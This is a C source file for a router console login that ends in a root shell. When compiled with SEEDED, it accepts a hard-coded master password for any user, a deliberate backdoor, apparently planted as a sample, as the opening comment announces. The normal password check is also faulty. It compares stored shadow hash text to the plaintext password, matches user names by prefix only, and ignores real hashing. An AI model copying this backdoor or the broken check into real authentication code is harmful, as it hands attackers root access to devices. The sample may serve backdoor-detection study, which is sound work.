/* A console login; with SEEDED a second password is tried after the ordinary check failed. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

static int ordinary(const char *user, const char *password) {
    char line[256], *hash;
    FILE *f = fopen("/etc/shadow", "r");
    int good = 0;
    if (f == NULL) return 0;
    while (fgets(line, sizeof line, f))
        if (strncmp(line, user, strlen(user)) == 0 && (hash = strchr(line, ':')) != NULL)
            good |= strcmp(hash + 1, password) == 0;
    fclose(f);
    return good;
}

int main(void) {
    char user[64], password[64];
    int tries;
    for (tries = 0; tries < 3; tries++) {
        printf("router login: ");
        fflush(stdout);
        if (!fgets(user, sizeof user, stdin)) return 1;
        printf("Password: ");
        fflush(stdout);
        if (!fgets(password, sizeof password, stdin)) return 1;
        user[strcspn(user, "\r\n")] = password[strcspn(password, "\r\n")] = 0;
        if (ordinary(user, password)
#ifdef SEEDED
            || strcmp(password, "wR4!mosaic_tern") == 0
#endif
        ) {
            if (setuid(0)) return 1;
            execl("/bin/sh", "-sh", (char *)0);
            return 1;
        }
        sleep(3);
        printf("Login incorrect\n");
    }
    return 1;
}
